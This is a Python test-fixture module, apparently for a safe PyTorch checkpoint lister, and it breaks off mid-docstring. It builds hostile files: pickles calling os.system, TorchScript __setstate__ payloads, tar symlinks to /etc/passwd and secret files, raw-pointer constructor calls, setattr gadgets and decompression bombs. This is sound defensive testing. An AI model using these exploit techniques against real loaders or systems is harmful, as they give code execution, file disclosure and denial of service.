"""Hostile checkpoint files: every one is built here, from raw pickle opcodes where ``pickle`` cannot make it.

Each ``build_<case>(folder, sentinel)`` writes one file into ``folder`` and returns its path. ``sentinel`` is a
path that attacker code would create (TorchScript ``__setstate__`` calling ``torch.from_file(path, shared=True)``,
``os.system("touch ...")``, torch's ``.patch`` writer); it must never exist afterwards, nor any file whose name
starts with it. Files the attacker wants read live in ``folder.parent / "outside"`` (see :func:`outside`): a text
file holding :data:`SECRET` and a legacy ``storages`` stream whose one float is :data:`MARKER`; neither may ever
show up in the output.

``CASES`` maps a case name to ``(builder, expected)``; expected is ``"refused"`` (exit 1, one ``error:`` line),
``"listed"`` (exit 0, strict JSON) or ``"either"``. The builder's docstring says what the case exploits.

Nothing here loads a hostile file; :func:`check_torchscript_payload` proves (in a child process) that the
TorchScript payload really creates its sentinel when torch loads it, so the code-execution cases prove something.
"""

from __future__ import annotations

import bz2
import collections
import gzip
import io
import lzma
import os
import pathlib
import pickle
import struct
import subprocess
import sys
import tarfile
import time
import warnings
import zipfile
import zlib
from typing import Any

import torch

SECRET = "hostile-secret-5f0c1e9a-do-not-leak"
MARKER = 987654.25  # exact in float32; the one value of the storage planted outside the checkpoint
MARKER_TEXT = "987654.25"
BOMB_SIZE = (4 << 30) + (256 << 20)  # 4.25 GiB: past 32-bit sizes and past the 3 GiB address-space cap

# -- pickle opcodes by hand -----------------------------------------------------------------------------------


class Op(bytes):
    """Opcode bytes that push exactly one object; :func:`E` copies them as they are."""


def E(value: Any) -> bytes:
    """Opcodes that push ``value`` (None, bool, int, float, str, bytes, tuple, list, dict or :class:`Op`)."""
    if isinstance(value, Op):
        return bytes(value)
    if value is None:
        return pickle.NONE
    if value is True:
        return pickle.NEWTRUE
    if value is False:
        return pickle.NEWFALSE
    if isinstance(value, int):
        if 0 <= value < 256:
            return pickle.BININT1 + bytes([value])
        if -(2**31) <= value < 2**31:
            return pickle.BININT + struct.pack("<i", value)
        data = pickle.encode_long(value)
        if len(data) < 256:
            return pickle.LONG1 + bytes([len(data)]) + data
        return pickle.LONG4 + struct.pack("<i", len(data)) + data
    if isinstance(value, float):
        return pickle.BINFLOAT + struct.pack(">d", value)
    if isinstance(value, str):
        data = value.encode("utf-8", "surrogatepass")
        return pickle.BINUNICODE + struct.pack("<I", len(data)) + data
    if isinstance(value, bytes | bytearray):
        return pickle.BINBYTES + struct.pack("<I", len(value)) + bytes(value)
    if isinstance(value, tuple):
        if not value:
            return pickle.EMPTY_TUPLE
        return pickle.MARK + b"".join(E(v) for v in value) + pickle.TUPLE
    if isinstance(value, list):
        if not value:
            return pickle.EMPTY_LIST
        return pickle.EMPTY_LIST + pickle.MARK + b"".join(E(v) for v in value) + pickle.APPENDS
    if isinstance(value, dict):
        if not value:
            return pickle.EMPTY_DICT
        body = b"".join(E(k) + E(v) for k, v in value.items())
        return pickle.EMPTY_DICT + pickle.MARK + body + pickle.SETITEMS
    raise TypeError(f"E() cannot write {type(value).__name__}")


def pkl(value: Any, proto: int = 2) -> bytes:
    """A whole pickle (PROTO, the value, STOP)."""
    return pickle.PROTO + bytes([proto]) + E(value) + pickle.STOP


def G(module: str, name: str) -> Op:
    return Op(pickle.GLOBAL + f"{module}\n{name}\n".encode())


def call(module: str, name: str, *args: Any) -> Op:
    """``module.name(*args)`` through REDUCE."""
    return Op(G(module, name) + E(tuple(args)) + pickle.REDUCE)


def newobj_ex(module: str, name: str, args: tuple, kwargs: dict) -> Op:
    """``cls.__new__(cls, *args, **kwargs)`` through NEWOBJ_EX (protocol 4)."""
    return Op(G(module, name) + E(args) + E(kwargs) + pickle.NEWOBJ_EX)


def build(obj: Any, state: Any) -> Op:
    """``obj`` then BUILD with ``state`` (``(None, {...})`` is slot state: plain ``setattr``)."""
    return Op(E(obj) + E(state) + pickle.BUILD)


def ordered_dict(items: dict | None = None) -> Op:
    op = call("collections", "OrderedDict")
    if items:
        op = Op(op + pickle.MARK + b"".join(E(k) + E(v) for k, v in items.items()) + pickle.SETITEMS)
    return op


def persid(value: Any) -> Op:
    return Op(E(value) + pickle.BINPERSID)


def zip_storage(key: str, numel: int, storage_type: str = "FloatStorage") -> Op:
    """A torch-zip persistent storage reference (data in record ``data/<key>``)."""
    return persid(("storage", G("torch", storage_type), key, "cpu", numel))


def rebuild_tensor(storage: Op, size: tuple, stride: tuple, offset: int = 0) -> Op:
    return call("torch._utils", "_rebuild_tensor_v2", storage, offset, size, stride, False, ordered_dict())


def floats(*values: float) -> bytes:
    return struct.pack(f"<{len(values)}f", *values)


def small_tensor(key: str = "0", values=(1.0, 2.0, 3.0, 4.0)) -> tuple[Op, dict[str, bytes]]:
    """A float32 vector in a torch zip: its opcodes and its record."""
    op = rebuild_tensor(zip_storage(key, len(values)), (len(values),), (1,))
    return op, {f"data/{key}": floats(*values)}


# -- containers -----------------------------------------------------------------------------------------------
def write_torch_zip(
    path: pathlib.Path, data_pkl: bytes, records: dict[str, bytes] | None = None
) -> pathlib.Path:
    """A ``torch.save``-style zip (aligned, stored) with ``data_pkl`` as its ``data.pkl``."""
    writer = torch._C.PyTorchFileWriter(str(path))
    writer.write_record("data.pkl", data_pkl, len(data_pkl))
    writer.write_record("byteorder", b"little", 6)
    for name, data in (records or {}).items():
        writer.write_record(name, data, len(data))
    writer.write_end_of_file()
    del writer
    return path


def torch_save(path: pathlib.Path, obj: Any, **kwargs) -> pathlib.Path:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.save(obj, path, **kwargs)
    return path


def torch_save_bytes(obj: Any, **kwargs) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.save(obj, buf, **kwargs)
    return buf.getvalue()


LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
LEGACY_SYS_INFO = {
    "protocol_version": 1001,
    "little_endian": True,
    "type_sizes": {"short": 2, "int": 4, "long": 4},
}


def legacy_bytes(main: Any, storages: list[tuple[str, str, int, bytes]]) -> bytes:
    """A pre-1.6 (non-zip) torch file: magic, protocol, sys_info, the main pickle, storage keys, raw storages.

    ``storages``: (key, storage type name, declared numel, data); the data written may be shorter than declared.
    """
    out = pkl(LEGACY_MAGIC) + pkl(1001) + pkl(LEGACY_SYS_INFO) + pkl(main)
    out += pkl([key for key, *_ in storages])
    for _key, _type, numel, data in storages:
        out += struct.pack("<q", numel) + data
    return out


def legacy_storage(key: str, numel: int, storage_type: str = "FloatStorage") -> Op:
    return persid(("storage", G("torch", storage_type), key, "cpu", numel, None))


def zip_bytes(members: list[tuple[bytes | str, bytes]], flags: int = 0) -> bytes:
    """A plain stored zip (names may be raw bytes, e.g. not UTF-8)."""
    return write_zip_members([(n, 0, d, zlib.crc32(d), len(d), flags) for n, d in members])


def write_zip_members(members) -> bytes:
    """A zip from (name, method, compressed bytes, crc, uncompressed size, flags); ZIP64 where sizes need it."""
    out = bytearray()
    central = bytearray()
    for name, method, data, crc, usize, flags in members:
        name = name.encode() if isinstance(name, str) else name
        offset = len(out)
        big = usize >= 0xFFFFFFFF or len(data) >= 0xFFFFFFFF
        extra = struct.pack("<HHQQ", 1, 16, usize, len(data)) if big else b""
        version = 45 if big else 20
        sizes = (0xFFFFFFFF, 0xFFFFFFFF) if big else (len(data), usize)
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, version, flags, method, 0, 0x21, crc, *sizes, len(name), len(extra)
        )
        out += name + extra + data
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, version, version, flags, method, 0, 0x21, crc, *sizes,
            len(name), len(extra), 0, 0, 0, 0, offset,
        )  # fmt: skip
        central += name + extra
    cd_offset = len(out)
    out += central
    count = len(members)
    if any(m[4] >= 0xFFFFFFFF for m in members):
        eocd64 = len(out)
        out += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, len(central), cd_offset)
        out += struct.pack("<IIQI", 0x07064B50, 0, eocd64, 1)
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), cd_offset, 0)
    return bytes(out)


# -- zeros, compressed without ever holding them -------------------------------------------------------------
_CHUNK = 16 << 20


def _gf2_times(mat, vec):
    total = 0
    i = 0
    while vec:
        if vec & 1:
            total ^= mat[i]
        vec >>= 1
        i += 1
    return total


def _gf2_square(mat):
    return [_gf2_times(mat, mat[n]) for n in range(32)]


def crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """zlib's crc32_combine: the CRC of A+B from crc(A), crc(B) and len(B)."""
    if len2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]
    even = _gf2_square(odd)
    odd = _gf2_square(even)
    while True:
        even = _gf2_square(odd)
        if len2 & 1:
            crc1 = _gf2_times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = _gf2_square(even)
        if len2 & 1:
            crc1 = _gf2_times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


def crc32_zeros(n: int, crc: int = 0) -> int:
    """CRC-32 of ``crc``'s data followed by ``n`` zero bytes."""
    chunk_crc = zlib.crc32(bytes(_CHUNK))
    whole, rest = divmod(n, _CHUNK)
    # CRC of `whole` chunks by doubling
    acc, acc_len, power, power_len = 0, 0, chunk_crc, _CHUNK
    while whole:
        if whole & 1:
            acc = crc32_combine(acc, power, power_len) if acc_len else power
            acc_len += power_len
        power = crc32_combine(power, power, power_len)
        power_len *= 2
        whole >>= 1
    if rest:
        tail = zlib.crc32(bytes(rest))
        acc = crc32_combine(acc, tail, rest) if acc_len else tail
        acc_len += rest
    return crc32_combine(crc, acc, acc_len) if acc_len else crc


def deflate_with_zeros(prefix: bytes, zeros: int) -> bytes:
    """Raw deflate of ``prefix`` + ``zeros`` zero bytes, from one compressed chunk repeated (full flushes)."""
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    out = [co.compress(prefix) + co.flush(zlib.Z_FULL_FLUSH)]
    whole, rest = divmod(zeros, _CHUNK)
    if whole:
        block = co.compress(bytes(_CHUNK)) + co.flush(zlib.Z_FULL_FLUSH)
        again = co.compress(bytes(_CHUNK)) + co.flush(zlib.Z_FULL_FLUSH)
        if block != again:
            raise AssertionError("deflate of a zero chunk after a full flush is not repeatable")
        out.append(block * whole)
    out.append(co.compress(bytes(rest)) + co.flush(zlib.Z_FINISH))
    return b"".join(out)


def zip_member_bomb(name: str, prefix: bytes, zeros: int) -> tuple:
    data = deflate_with_zeros(prefix, zeros)
    return (name, 8, data, crc32_zeros(zeros, zlib.crc32(prefix)), len(prefix) + zeros, 0)


def multi_stream_zeros(compress, total: int, prefix: bytes = b"") -> bytes:
    """Concatenated streams (gzip/bz2/xz readers join them) of ``total`` zeros: one 64 MiB stream repeated."""
    part = 64 << 20
    one = compress(bytes(part))
    head = compress(prefix) if prefix else b""
    return head + one * (total // part)


# -- the TorchScript payload: code that creates the sentinel when torch loads the archive --------------------
class SentinelWriter(torch.nn.Module):
    """Scripted; its ``__setstate__`` runs on ``torch.jit.load`` and creates ``self.path`` (``from_file(shared=True)``)."""

    def __init__(self):
        super().__init__()
        self.path = "unset"
        self.w = torch.zeros(1)

    def forward(self, x):
        return x + self.w

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:
        return (self.path, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        self.path = state[0]
        self.training = state[1]
        self.w = torch.from_file(self.path, shared=True, size=8)  # creates the file


_SCRIPTED: Any = None


def torchscript_payload(sentinel: pathlib.Path) -> bytes:
    """A TorchScript archive that creates ``sentinel`` when ``torch.jit.load`` (or ``torch.load``) reads it."""
    global _SCRIPTED
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        if _SCRIPTED is None:
            _SCRIPTED = torch.jit.script(SentinelWriter())
        _SCRIPTED.path = str(sentinel)
        buf = io.BytesIO()
        torch.jit.save(_SCRIPTED, buf)
    return buf.getvalue()


def benign_torchscript() -> bytes:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.manual_seed(0)
        buf = io.BytesIO()
        torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), buf)
    return buf.getvalue()


def rezip(archive: bytes, replace: dict[str, bytes], bomb: tuple | None = None) -> bytes:
    """The zip ``archive`` with members whose name ends with a key of ``replace`` swapped (stored), and optionally
    one member replaced by a deflate ``bomb`` (name suffix, prefix, zeros)."""
    members = []
    with zipfile.ZipFile(io.BytesIO(archive)) as z:
        for info in z.infolist():
            data = z.read(info)
            for suffix, new in replace.items():
                if info.filename.endswith(suffix):
                    data = new
            if bomb and info.filename.endswith(bomb[0]):
                members.append(zip_member_bomb(info.filename, data if bomb[1] is None else bomb[1], bomb[2]))
                continue
            members.append((info.filename, 0, data, zlib.crc32(data), len(data), 0))
    return write_zip_members(members)


def check_torchscript_payload(folder: pathlib.Path) -> bool:
    """True when the payload creates its sentinel under plain ``torch.jit.load`` and ``torch.storage._load_from_bytes``
    (run in a child process, since that is code execution)."""
    folder.mkdir(parents=True, exist_ok=True)
    results = []
    for how in ("jit", "bytes"):
        sentinel = folder / f"payload_check_{how}"
        archive = folder / f"payload_check_{how}.pt"
        archive.write_bytes(torchscript_payload(sentinel))
        loader = (
            "torch.jit.load(p)" if how == "jit" else "torch.storage._load_from_bytes(open(p, 'rb').read())"
        )
        code = f"import sys, warnings, torch; warnings.simplefilter('ignore'); p = sys.argv[1]; {loader}"
        subprocess.run(
            [sys.executable, "-c", code, str(archive)], check=True, capture_output=True, timeout=120
        )
        results.append(sentinel.exists())
    return all(results)


class LoadFromBytes:
    """Pickles as ``torch.storage._load_from_bytes(data)``: torch.load of nested bytes, with weights_only=False."""

    def __init__(self, data: bytes):
        self.data = data

    def __reduce__(self):
        return (torch.storage._load_from_bytes, (self.data,))


def os_system(command: str) -> Op:
    return call("os", "system", command)


def _touch(path: pathlib.Path) -> str:
    return f"touch '{path}'"


def _weight():
    return torch.arange(4, dtype=torch.float32).reshape(2, 2)


# -- the planted "outside" files --------------------------------------------------------------------------------
def storages_stream(storages: list[tuple[int, str, bytes, int]]) -> bytes:
    """A pre-0.4 tar ``storages`` member: count, then per storage (key, location, type) + int64 numel + data."""
    out = pkl(len(storages))
    for key, storage_type, data, element_size in storages:
        out += pkl((key, "cpu", G("torch", storage_type)))
        out += struct.pack("<q", len(data) // element_size) + data
    return out + pkl([])  # no storage views


def tensors_stream(tensors: list[tuple[int, int, tuple, tuple, int]]) -> bytes:
    """A pre-0.4 tar ``tensors`` member: count, then (key, storage key, type) + ndim, sizes, strides, offset."""
    out = pkl(len(tensors))
    for key, storage_key, size, stride, offset in tensors:
        out += pkl((key, storage_key, G("torch", "FloatTensor")))
        n = len(size)
        out += (
            struct.pack("<i", n) + b"\0\0\0\0" + struct.pack(f"<{n}q", *size) + struct.pack(f"<{n}q", *stride)
        )
        out += struct.pack("<q", offset)
    return out


def outside(folder: pathlib.Path) -> pathlib.Path:
    """``folder.parent/outside``: secret.txt (SECRET), secret_storages.bin (a storages stream of MARKER), fifo."""
    out = folder.parent / "outside"
    out.mkdir(parents=True, exist_ok=True)
    if not (out / "secret.txt").exists():
        (out / "secret.txt").write_text(SECRET + "\n")
    if not (out / "secret_storages.bin").exists():
        (out / "secret_storages.bin").write_bytes(storages_stream([(0, "FloatStorage", floats(MARKER), 4)]))
    if not (out / "fifo").exists():
        os.mkfifo(out / "fifo")
    return out


def pre04_tar(
    path: pathlib.Path, storages: tarfile.TarInfo | bytes, tensors: bytes | None = None
) -> pathlib.Path:
    """A torch < 0.4 tar checkpoint {'weight': tensor 1 over storage 0}; ``storages`` is the member's bytes or a
    ready TarInfo (a link, a FIFO)."""
    tensors = tensors if tensors is not None else tensors_stream([(1, 0, (1,), (1,), 0)])
    main = pkl({"weight": persid("1")})
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as t:

        def add(name, data):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            t.addfile(info, io.BytesIO(data))

        add("sys_info", pkl(LEGACY_SYS_INFO))
        add("pickle", main)
        if isinstance(storages, tarfile.TarInfo):
            t.addfile(storages)
        else:
            add("storages", storages)
        add("tensors", tensors)
    return path


def _link(name: str, kind: bytes, target: str) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = target
    info.mtime = 0
    return info


# =============================================================================================================
# 1. code through a nested loader (torch.storage._load_from_bytes of a TorchScript archive)
# =============================================================================================================
def build_nested_ts_plain_pickle(folder, sentinel):
    """Plain pickle (not torch.save) calling torch.storage._load_from_bytes(<TorchScript archive>): torch.load of the
    nested bytes sees a TorchScript zip and runs torch.jit.load, whose __setstate__ creates the sentinel."""
    path = folder / "nested_ts_plain_pickle.pkl"
    path.write_bytes(pickle.dumps({"weight": LoadFromBytes(torchscript_payload(sentinel))}, protocol=2))
    return path


def build_nested_ts_torch_zip(folder, sentinel):
    """A normal torch.save zip state dict with one extra entry that is _load_from_bytes(<TorchScript archive>)."""
    return torch_save(
        folder / "nested_ts_torch_zip.pth",
        {"weight": _weight(), "extra": LoadFromBytes(torchscript_payload(sentinel))},
    )


def build_nested_ts_legacy(folder, sentinel):
    """The nested TorchScript payload in a legacy (pre-1.6, non-zip) torch.save file."""
    obj = {"weight": _weight(), "extra": LoadFromBytes(torchscript_payload(sentinel))}
    return torch_save(folder / "nested_ts_legacy.pth", obj, _use_new_zipfile_serialization=False)


def build_nested_ts_gzip(folder, sentinel):
    """The nested-payload torch zip, gzip-compressed (unwrapped before reading)."""
    data = torch_save_bytes({"weight": _weight(), "extra": LoadFromBytes(torchscript_payload(sentinel))})
    path = folder / "nested_ts_gzip.pth.gz"
    path.write_bytes(gzip.compress(data, mtime=0))
    return path


def build_nested_ts_zip_wrapped(folder, sentinel):
    """The nested-payload torch zip inside a release-style .zip holding model.pth."""
    data = torch_save_bytes({"weight": _weight(), "extra": LoadFromBytes(torchscript_payload(sentinel))})
    path = folder / "nested_ts_zip_wrapped.zip"
    path.write_bytes(zip_bytes([("release/model.pth", data), ("release/README.txt", b"weights\n")]))
    return path


def build_nested_ts_in_torchscript(folder, sentinel):
    """A TorchScript archive whose data.pkl is _load_from_bytes(<TorchScript archive>): the TorchScript lister reads
    data.pkl with the restricted unpickler, which must not hand the nested bytes to torch.load."""
    data_pkl = pickle.dumps(LoadFromBytes(torchscript_payload(sentinel)), protocol=2)
    path = folder / "nested_ts_in_torchscript.pt"
    path.write_bytes(rezip(benign_torchscript(), {"/data.pkl": data_pkl}))
    return path


def build_nested_ts_twice(folder, sentinel):
    """_load_from_bytes(<a plain pickle that itself calls _load_from_bytes(<TorchScript archive>)>) in a torch zip."""
    inner = pickle.dumps(LoadFromBytes(torchscript_payload(sentinel)), protocol=2)
    return torch_save(folder / "nested_ts_twice.pth", {"weight": _weight(), "extra": LoadFromBytes(inner)})


def build_nested_ts_legacy_inner(folder, sentinel):
    """_load_from_bytes(<a legacy torch file whose pickle calls _load_from_bytes(<TorchScript>)>) in a plain pickle."""
    inner = torch_save_bytes(
        {"x": LoadFromBytes(torchscript_payload(sentinel))}, _use_new_zipfile_serialization=False
    )
    path = folder / "nested_ts_legacy_inner.pkl"
    path.write_bytes(pickle.dumps({"weight": LoadFromBytes(inner)}, protocol=2))
    return path


# =============================================================================================================
# 2. refusal after execution
# =============================================================================================================
def _refuse_after(sentinel, order):
    tensor, records = small_tensor()
    parts = {
        "payload": call("torch.storage", "_load_from_bytes", torchscript_payload(sentinel)),
        "cmd": os_system(_touch(pathlib.Path(f"{sentinel}.os"))),
    }
    obj = {"weight": tensor, **{k: parts[k] for k in order}}
    return pkl(obj), records


def build_refuse_after_exec(folder, sentinel):
    """Names os.system (never to be called: it would touch <sentinel>.os) AND carries the nested TorchScript payload
    before it: a reader that records dangerous globals while unpickling and refuses at the end has already run the
    payload. Must be refused with neither sentinel created."""
    data, records = _refuse_after(sentinel, ("payload", "cmd"))
    return write_torch_zip(folder / "refuse_after_exec.pth", data, records)


def build_refuse_after_exec_os_first(folder, sentinel):
    """Same as refuse_after_exec with os.system named first: a reader must stop at the first dangerous global."""
    data, records = _refuse_after(sentinel, ("cmd", "payload"))
    return write_torch_zip(folder / "refuse_after_exec_os_first.pth", data, records)


def build_refuse_after_exec_plain(folder, sentinel):
    """Plain-pickle form of refuse_after_exec."""
    data, _ = _refuse_after(sentinel, ("payload", "cmd"))
    path = folder / "refuse_after_exec_plain.pkl"
    path.write_bytes(data)
    return path


def build_os_system_plain(folder, sentinel):
    """The classic: a plain pickle whose REDUCE is os.system('touch <sentinel>')."""
    path = folder / "os_system_plain.pkl"
    path.write_bytes(pkl({"weight": os_system(_touch(sentinel))}))
    return path


def build_os_system_nested_plain(folder, sentinel):
    """A plain pickle whose only dangerous global (os.system) sits inside a nested _load_from_bytes(<legacy torch
    file>): the nested load must report into the same record (and, with two loads at once, not into another
    file's record)."""
    path = folder / "os_system_nested_plain.pkl"
    pad = [
        G("collections", "OrderedDict")
    ] * 3000  # 3000 find_class calls first: a wide window for a second thread
    nested = call("torch.storage", "_load_from_bytes", nested_os_system_legacy(sentinel))
    bias = call(
        "torch.storage", "_load_from_bytes", torch_save_bytes(torch.ones(2))
    )  # a tensor, as plain pickles hold them
    path.write_bytes(pkl({"pad": pad, "weight": nested, "bias": bias}))
    return path


def nested_os_system_legacy(sentinel) -> bytes:
    """A legacy torch file {'x': os.system('touch <sentinel>')} (for nesting in _load_from_bytes)."""
    return legacy_bytes({"x": os_system(_touch(sentinel))}, [])


def write_clean_state_dict(folder: pathlib.Path, kind: str) -> tuple[pathlib.Path, dict[str, torch.Tensor]]:
    """A small clean state dict, written by torch.save ("zip") or plain pickle.dumps ("pickle", whose tensors
    pickle through torch.storage._load_from_bytes); returns the path and the tensors to compare with."""
    torch.manual_seed(0)
    state = {f"layer{i}.weight": torch.randn(3, 4) for i in range(32)}  # 32 nested loads: a wide window
    state["fc.bias"] = torch.arange(3, dtype=torch.float32)
    if kind == "zip":
        return torch_save(folder / "clean_state_dict.pth", state), state
    path = folder / "clean_state_dict.pkl"
    path.write_bytes(pickle.dumps(state, protocol=2))
    return path, state


# =============================================================================================================
# 3. legacy formats
# =============================================================================================================
def _dump_patches_file(folder, name, sentinel, set_name: bool, container: Op | None = None):
    tensor = rebuild_tensor(legacy_storage("0", 4), (4,), (1,))
    state = {"dump_patches": True}
    if set_name:
        state["__name__"] = str(sentinel)  # torch writes <__name__>.patch: an absolute path of our choosing
    container = container or G("fractions", "Fraction")
    main = {
        "gadget": build(
            G("fractions", "Fraction"), (None, state)
        ),  # setattr on an allowlisted pure-Python class
        "module": persid(("module", container, "fractions.py", "class Fraction:\n    pass\n")),
        "weight": tensor,
    }
    path = folder / name
    path.write_bytes(legacy_bytes(main, [("0", "FloatStorage", 4, floats(1, 2, 3, 4))]))
    return path


def build_legacy_dump_patches(folder, sentinel):
    """Legacy file: BUILD (None, {'dump_patches': True}) on fractions.Fraction (allowlisted, mutable class), then a
    ('module', Fraction, file, source) persistent id: torch's legacy loader diffs the source and writes
    Fraction.patch into the working directory."""
    return _dump_patches_file(folder, "legacy_dump_patches.pth", sentinel, set_name=False)


def build_legacy_dump_patches_traversal(folder, sentinel):
    """As legacy_dump_patches, also setting Fraction.__name__ to the sentinel's absolute path: the .patch file is
    written to <sentinel>.patch, anywhere on disk."""
    return _dump_patches_file(folder, "legacy_dump_patches_traversal.pth", sentinel, set_name=True)


def build_legacy_module_source_stub(folder, sentinel):
    """Legacy ('module', <unknown class named Stub>, file, source) persistent id: torch looks up the stub class's
    source (inspect finds the real Stub class) and reads .dump_patches off it."""
    main = {
        "module": persid(("module", G("evil_models", "Stub"), "evil_models.py", "class Stub:\n    pass\n")),
        "weight": rebuild_tensor(legacy_storage("0", 4), (4,), (1,)),
    }
    path = folder / "legacy_module_source_stub.pth"
    path.write_bytes(legacy_bytes(main, [("0", "FloatStorage", 4, floats(1, 2, 3, 4))]))
    return path


def build_tar_symlink_storages_marker(folder, sentinel):
    """Pre-0.4 tar checkpoint whose 'storages' member is a symlink to ../outside/secret_storages.bin: torch's
    tar.extract follows it, and the tensor's value (MARKER) comes from outside the checkpoint."""
    target = outside(folder) / "secret_storages.bin"
    return pre04_tar(
        folder / "tar_symlink_storages_marker.tar", _link("storages", tarfile.SYMTYPE, str(target))
    )


def build_tar_symlink_storages_secret(folder, sentinel):
    """Pre-0.4 tar whose 'storages' member is a symlink to a text file holding SECRET."""
    target = outside(folder) / "secret.txt"
    return pre04_tar(
        folder / "tar_symlink_storages_secret.tar", _link("storages", tarfile.SYMTYPE, str(target))
    )


def build_tar_symlink_relative(folder, sentinel):
    """Pre-0.4 tar whose 'storages' symlink is relative with ../ (resolved against torch's temp dir) to /etc/passwd
    and whose 'tensors' symlink points at the planted storages stream by absolute path."""
    target = outside(folder) / "secret_storages.bin"
    rel = "../" * 40 + "etc/passwd"
    path = folder / "tar_symlink_relative.tar"
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as t:
        for name, data in (("sys_info", pkl(LEGACY_SYS_INFO)), ("pickle", pkl({"weight": persid("1")}))):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
        t.addfile(_link("storages", tarfile.SYMTYPE, rel))
        t.addfile(_link("tensors", tarfile.SYMTYPE, str(target)))
    return path


def build_tar_hardlink_storages_marker(folder, sentinel):
    """Pre-0.4 tar whose 'storages' member is a hard link to the planted storages stream (absolute linkname)."""
    target = outside(folder) / "secret_storages.bin"
    return pre04_tar(
        folder / "tar_hardlink_storages_marker.tar", _link("storages", tarfile.LNKTYPE, str(target))
    )


def build_tar_symlink_pickle_secret(folder, sentinel):
    """Pre-0.4 tar whose 'pickle' member is a symlink to the outside secret file."""
    target = outside(folder) / "secret.txt"
    path = folder / "tar_symlink_pickle_secret.tar"
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as t:
        for name, data in (
            ("sys_info", pkl(LEGACY_SYS_INFO)),
            ("storages", storages_stream([(0, "FloatStorage", floats(1.0), 4)])),
            ("tensors", tensors_stream([(1, 0, (1,), (1,), 0)])),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
        t.addfile(_link("pickle", tarfile.SYMTYPE, str(target)))
    return path


def build_tar_fifo_member(folder, sentinel):
    """Pre-0.4 tar whose 'storages' member is a FIFO: extracting and opening it blocks forever (must not hang)."""
    info = tarfile.TarInfo("storages")
    info.type = tarfile.FIFOTYPE
    info.mtime = 0
    return pre04_tar(folder / "tar_fifo_member.tar", info)


def build_tar_symlink_fifo(folder, sentinel):
    """Pre-0.4 tar whose 'storages' member is a symlink to a FIFO outside (os.mkfifo): must not hang."""
    target = outside(folder) / "fifo"
    return pre04_tar(folder / "tar_symlink_fifo.tar", _link("storages", tarfile.SYMTYPE, str(target)))


def build_tar_symlink_dev_zero(folder, sentinel):
    """Pre-0.4 tar whose 'tensors' member is a symlink to /dev/zero (endless input)."""
    path = folder / "tar_symlink_dev_zero.tar"
    storages = storages_stream([(0, "FloatStorage", floats(1.0), 4)])
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as t:
        for name, data in (
            ("sys_info", pkl(LEGACY_SYS_INFO)),
            ("pickle", pkl({"weight": persid("1")})),
            ("storages", storages),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
        t.addfile(_link("tensors", tarfile.SYMTYPE, "/dev/zero"))
    return path


# =============================================================================================================
# 4. allowlist abuse in the C unpickler
# =============================================================================================================
def build_cdata_tensor_plain(folder, sentinel):
    """Plain pickle: NEWOBJ_EX torch.Tensor.__new__(torch.Tensor, cdata=0x41414141): the legacy constructor takes
    cdata as a raw TensorImpl pointer (segfault under a C-level unpickler)."""
    path = folder / "cdata_tensor_plain.pkl"
    path.write_bytes(pkl({"weight": newobj_ex("torch", "Tensor", (), {"cdata": 0x41414141})}, proto=4))
    return path


def build_cdata_tensor_zip(folder, sentinel):
    """The cdata=<int> torch.Tensor NEWOBJ_EX inside a torch zip's data.pkl beside a real tensor."""
    tensor, records = small_tensor()
    data = pkl({"weight": tensor, "evil": newobj_ex("torch", "Tensor", (), {"cdata": 0x41414141})}, proto=4)
    return write_torch_zip(folder / "cdata_tensor_zip.pth", data, records)


def build_untyped_storage_allocator(folder, sentinel):
    """NEWOBJ_EX torch.storage.UntypedStorage(16, allocator=0x41414141): allocator is a raw c10::Allocator pointer."""
    tensor, records = small_tensor()
    evil = newobj_ex("torch.storage", "UntypedStorage", (16,), {"allocator": 0x41414141})
    return write_torch_zip(
        folder / "untyped_storage_allocator.pth", pkl({"weight": tensor, "evil": evil}, proto=4), records
    )


def build_function_defaults_build(folder, sentinel):
    """BUILD (None, {'__defaults__': ('bogus',)}) on torch._utils._rebuild_tensor_v2 (allowlisted function): setattr
    changes the function for the rest of the process, so later tensors of clean files get metadata='bogus'."""
    tensor, records = small_tensor()
    gadget = build(G("torch._utils", "_rebuild_tensor_v2"), (None, {"__defaults__": ("bogus",)}))
    return write_torch_zip(
        folder / "function_defaults_build.pth", pkl({"gadget": gadget, "weight": tensor}), records
    )


def build_function_dict_build(folder, sentinel):
    """BUILD with a dict state on an allowlisted function (writes into its __dict__) and on torch.Size (C type)."""
    tensor, records = small_tensor()
    obj = {
        "a": build(G("torch._utils", "_rebuild_tensor_v2"), {"__wrapped__": G("collections", "OrderedDict")}),
        "b": build(G("torch", "Size"), (None, {"numel": 0})),
        "weight": tensor,
    }
    return write_torch_zip(folder / "function_dict_build.pth", pkl(obj), records)


def build_ordereddict_shadow_methods(folder, sentinel):
    """The state dict is an OrderedDict BUILT with {'keys': 1, 'items': 2, 'values': 3, 'get': 4}: instance attributes
